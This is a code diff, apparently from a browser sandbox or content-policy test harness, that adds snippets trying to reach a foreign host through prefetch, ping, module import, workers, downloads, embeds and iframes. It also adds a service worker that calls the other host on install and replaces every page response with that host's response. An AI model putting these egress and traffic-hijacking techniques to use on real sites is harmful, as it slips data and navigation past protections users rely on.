@@ -27,6 +27,19 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   balise: "say(navigator.sendBeacon(A + '/balise', 'x') ? 'acceptée' : 'refusée')",
   prise: "const s = new WebSocket(A.replace('https', 'wss') + '/prise'); s.onerror = () => say('refusée')",
   feuille: "add('link', { rel: 'stylesheet', href: A + '/feuille.css' })",
+  prefetch: "add('link', { rel: 'prefetch', href: A + '/prefetch' })",
+  ping: "const l = Object.assign(document.createElement('a'), { href: '#', ping: A + '/ping' }); document.body.append(l); l.click()",
+  module: "import(A + '/module.js').then(() => say('passé'), () => say('refusé'))",
+  travailleur:
+    "new Worker(URL.createObjectURL(new Blob([`fetch('${A}/travailleur', { mode: 'no-cors' })`])))",
+  service:
+    "navigator.serviceWorker.register('/attaques/service.js').then(() => say('inscrit'), () => say('refusé'))",
+  telecharger:
+    "add('a', { href: A + '/fichier.zip', download: 'fichier.zip', id: 'fichier-zip' }); document.getElementById('fichier-zip').click()",
+  incorpore: "add('embed', { src: A + '/incorpore', type: 'text/html' })",
+  cadres: "add('iframe', { src: '/attaques/redirection' })",
+  'cadre-donnees': "add('iframe', { src: 'data:text/html,<p>data</p>' })",
+  dessus: "add('iframe', { srcdoc: `<script>top.location = '${A}/dessus'</` + 'script>' })",
   position: "navigator.geolocation.getCurrentPosition(() => say('accordée'), () => say('refusée'))",
   notification: 'Notification.requestPermission().then(say)',
   camera:
@@ -80,4 +93,16 @@ export function refreshPage(foreign: string): Html {
     `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Rafraîchissement</title>` +
       `<meta http-equiv="refresh" content="0;url=${foreign}/rafraichissement"></head><body></body></html>`,
   );
+}
+
+/** A service worker that asks the other host for something as soon as it is installed, and in place of every page. */
+export function serviceWorker(foreign: string): string {
+  return `
+self.addEventListener('install', (event) => {
+  event.waitUntil(fetch('${foreign}/service-installe', { mode: 'no-cors' }).catch(() => undefined));
+});
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  event.respondWith(fetch('${foreign}/service', { mode: 'no-cors' }).catch(() => fetch(event.request)));
+});`;
 }
